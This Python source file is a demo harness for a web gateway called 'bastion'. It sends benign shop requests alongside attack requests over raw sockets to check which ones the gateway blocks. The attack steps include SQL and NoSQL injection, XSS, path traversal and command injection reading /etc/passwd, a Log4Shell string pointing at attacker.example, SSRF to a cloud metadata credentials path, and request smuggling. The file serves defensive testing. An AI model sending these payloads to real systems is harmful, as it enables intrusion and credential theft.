"""`bastion demo --attack`: a short script of benign and hostile requests, and what became of each.

Requests are written as raw bytes over real sockets, so the script can also send what an HTTP
library refuses to produce (smuggling framings, folded headers, lying lengths). Every request
carries its own X-Request-Id, which links it to the event the gateway stored.
"""

from __future__ import annotations

import asyncio
import secrets
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from urllib.parse import quote

import orjson

from bastion.events import Event


@dataclass(frozen=True, slots=True)
class Step:
    label: str
    category: str  # "benign", or the attack class
    method: str
    target: str
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    raw: bytes | None = None  # the whole request as sent (framing attacks), else built from the fields

    @property
    def attack(self) -> bool:
        return self.category != "benign"


@dataclass(slots=True)
class Reply:
    status: int = 0
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    error: str = ""

    @property
    def from_bastion(self) -> bool:
        """Bastion's own answers are problem+json; the shop answers plain application/json."""
        return self.headers.get("content-type", "").startswith("application/problem+json")

    @property
    def problem_type(self) -> str:
        if not self.from_bastion:
            return ""
        try:
            doc = orjson.loads(self.body)
        except orjson.JSONDecodeError:
            return ""
        return str(doc.get("type", "")).rsplit("/", 1)[-1] if isinstance(doc, dict) else ""


@dataclass(slots=True)
class Result:
    step: Step
    request_id: str
    reply: Reply
    event: Event | None = None

    @property
    def blocked(self) -> bool:
        return self.reply.from_bastion and self.reply.status >= 400

    @property
    def outcome(self) -> str:
        if self.reply.error:
            return self.reply.error
        if self.blocked:
            return "blocked"
        if self.event is not None and self.event.would_block:
            return "would block"
        if self.event is not None:
            return "flagged"
        return "passed"

    @property
    def why(self) -> str:
        """Rule ids and the public reason, from the stored event (else the problem type)."""
        if self.event is not None:
            parts = list(self.event.rule_ids[:4])
            if len(self.event.rule_ids) > 4:
                parts.append(f"+{len(self.event.rule_ids) - 4}")
            reason = self.event.reason or self.reply.problem_type
            return " ".join(parts) + (f" ({reason})" if reason else "")
        return self.reply.problem_type


def _q(s: str) -> str:
    return quote(s, safe="")


def _json(doc: object) -> tuple[tuple[tuple[str, str], ...], bytes]:
    return (("Content-Type", "application/json"),), orjson.dumps(doc)


def script() -> list[Step]:
    """The demo traffic: realistic requests to the shop interleaved with common attacks."""
    jh, login = _json({"email": "alice@example.com", "password": "wonderland"})
    _, review = _json({"product_id": 1, "rating": 4,
                       "text": 'Bright & sturdy; the "warm" mode is <b>lovely</b>. 4/5 -- would buy again!'})
    _, order = _json({"user_id": 3, "items": [{"product_id": 5, "qty": 1}, {"product_id": 10, "qty": 2}]})
    _, sqli_login = _json({"email": "admin@example.com' OR '1'='1' -- ", "password": "x"})
    _, xss_review = _json({"product_id": 2, "rating": 5, "text": "<img src=x onerror=alert(document.cookie)>"})
    _, nosql_login = _json({"email": {"$ne": None}, "password": {"$gt": ""}})
    smuggle = (
        b"POST /api/orders HTTP/1.1\r\nHost: shop\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n"
        b"Connection: close\r\n\r\n0\r\n\r\nGET /api/users/1 HTTP/1.1\r\nHost: shop\r\n\r\n"
    )
    double_cl = (
        b"POST /api/reviews HTTP/1.1\r\nHost: shop\r\nContent-Length: 2\r\nContent-Length: 40\r\n"
        b"Connection: close\r\n\r\n{}"
    )
    folded = b"GET /api/products HTTP/1.1\r\nHost: shop\r\nX-Note: first\r\n  folded\r\nConnection: close\r\n\r\n"
    return [
        Step("product search", "benign", "GET", "/api/products?q=lamp"),
        Step("login", "benign", "POST", "/api/login", jh, login),
        Step("user profile", "benign", "GET", "/api/users/3"),
        Step("orders of a user", "benign", "GET", "/api/orders?user_id=3"),
        Step("search with an apostrophe", "benign", "GET", "/api/products?q=" + _q("children's book")),
        Step("review with rich text", "benign", "POST", "/api/reviews", jh, review),
        Step("new order", "benign", "POST", "/api/orders", jh, order),
        Step("profile lookup by email", "benign", "GET", "/api/profile?email=" + _q("bob.nguyen@example.com")),
        Step("SQLi UNION in search", "sql injection", "GET",
             "/api/products?q=" + _q("' UNION SELECT email, password FROM users--")),
        Step("SQLi tautology in login JSON", "sql injection", "POST", "/api/login", jh, sqli_login),
        Step("XSS script tag in search", "xss", "GET",
             "/api/products?q=" + _q("<script>alert(document.cookie)</script>")),
        Step("XSS event handler in review", "xss", "POST", "/api/reviews", jh, xss_review),
        Step("path traversal", "path traversal", "GET", "/api/products?image=" + _q("../../../../etc/passwd")),
        Step("command injection", "command injection", "GET", "/api/products?q=" + _q("lamp; cat /etc/passwd")),
        Step("Log4Shell in User-Agent", "log4shell", "GET", "/api/products",
             (("User-Agent", "${jndi:ldap://attacker.example/a}"),)),
        Step("SSRF to cloud metadata", "ssrf", "GET",
             "/api/products?image=" + _q("http://169.254.169.254/latest/meta-data/iam/security-credentials/")),
        Step("NoSQL operators in login", "nosql injection", "POST", "/api/login", jh, nosql_login),
        Step("oversized body (declared 50 MB)", "oversized", "POST", "/api/reviews",
             (("Content-Type", "application/json"), ("Content-Length", "50000000")), b"{"),
        Step("oversized URI (20 KB)", "oversized", "GET", "/api/products?q=" + "A" * 20_000),
        Step("200 request headers", "oversized", "GET", "/api/products",
             tuple((f"X-Pad-{i}", "x") for i in range(200))),
        Step("CL.TE request smuggling", "smuggling", "POST", "/api/orders", raw=smuggle),
        Step("conflicting Content-Length", "smuggling", "POST", "/api/reviews", raw=double_cl),
        Step("obsolete header folding", "smuggling", "GET", "/api/products", raw=folded),
    ]


def build(step: Step, request_id: str, host: str) -> bytes:
    """The bytes of one request: the raw framing attack with our request id, or a normal request."""
    if step.raw is not None:
        head, sep, rest = step.raw.partition(b"\r\n")
        return head + sep + f"X-Request-Id: {request_id}\r\n".encode() + rest
    ua = next((v for k, v in step.headers if k.lower() == "user-agent"), "bastion-demo/1.0")
    lines = [f"{step.method} {step.target} HTTP/1.1", f"Host: {host}", f"X-Request-Id: {request_id}",
             f"User-Agent: {ua}", "Connection: close"]
    if step.body and not any(k.lower() == "content-length" for k, _ in step.headers):
        lines.append(f"Content-Length: {len(step.body)}")
    lines.extend(f"{k}: {v}" for k, v in step.headers if k.lower() != "user-agent")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + step.body


async def send_raw(host: str, port: int, data: bytes, wait: float = 5.0, source: str | None = None) -> Reply:
    """Send one request on a fresh connection and read one response (or say what went wrong).

    `source` picks the local address (any 127.x.y.z is loopback on Linux), so that each step can
    come from its own client."""
    try:
        return await asyncio.wait_for(_exchange(host, port, data, source), wait)
    except TimeoutError:
        return Reply(error="timeout")
    except (ConnectionError, OSError, asyncio.IncompleteReadError, ValueError) as exc:
        return Reply(error=f"connection error ({type(exc).__name__})")


async def _exchange(host: str, port: int, data: bytes, source: str | None) -> Reply:
    try:
        reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0) if source else None)
    except OSError:
        if source is None:
            raise
        reader, writer = await asyncio.open_connection(host, port)  # no 127/8 aliases (macOS)
    try:
        writer.write(data)
        try:
            await writer.drain()
        except ConnectionError:
            pass  # the gateway may answer and close before reading everything we sent
        head = await reader.readuntil(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        status = int(lines[0].split(" ", 2)[1])
        headers: dict[str, str] = {}
        for line in lines[1:]:
            if ":" in line:
                k, v = line.split(":", 1)
                headers[k.strip().lower()] = v.strip()
        if "content-length" in headers:
            body = await reader.readexactly(int(headers["content-length"]))
        elif "chunked" in headers.get("transfer-encoding", ""):
            body = b""
            while True:
                size = int((await reader.readline()).split(b";")[0].strip() or b"0", 16)
                if size == 0:
                    break
                body += await reader.readexactly(size)
                await reader.readline()
        else:
            body = await reader.read(1 << 20)
        return Reply(status=status, headers=headers, body=body)
    finally:
        writer.close()
        try:
            await writer.wait_closed()
        except (ConnectionError, OSError):
            pass


async def run_script(host: str, port: int, steps: Sequence[Step] | None = None, run_id: str | None = None,
                     wait: float = 5.0) -> list[Result]:
    """Send every step in order; results carry the request id used for each.

    Benign steps come from one client (127.0.0.2), each attack from its own loopback address, so
    every block is explained by its own request rather than by the attacker's history (risk)."""
    run_id = run_id or secrets.token_hex(3)
    results: list[Result] = []
    for i, step in enumerate(steps if steps is not None else script(), 1):
        rid = f"demo-{run_id}-{i:02d}"
        source = f"127.0.{100 + i // 250}.{1 + i % 250}" if step.attack and host.startswith("127.") else None
        if source is None and host.startswith("127."):
            source = "127.0.0.2"
        reply = await send_raw(host, port, build(step, rid, f"{host}:{port}"), wait, source)
        results.append(Result(step, rid, reply))
    return results


def attach_events(results: Iterable[Result], events: Iterable[Event]) -> None:
    """Join each result to its event: by request id, else (a refusal made before the request id
    was read, such as a framing error) by method, path and status, in order."""
    events = sorted(events, key=lambda e: (e.time, e.id or 0))
    by_id = {e.request_id: e for e in events}
    used: set[int] = set()
    pending: list[Result] = []
    for r in results:
        r.event = by_id.get(r.request_id)
        if r.event is not None:
            used.add(id(r.event))
        elif r.reply.status:
            pending.append(r)
    for r in pending:
        path = r.step.target.split("?", 1)[0]
        for e in events:
            if id(e) not in used and (e.method, e.path, e.status) == (r.step.method, path, r.reply.status):
                r.event = e
                used.add(id(e))
                break
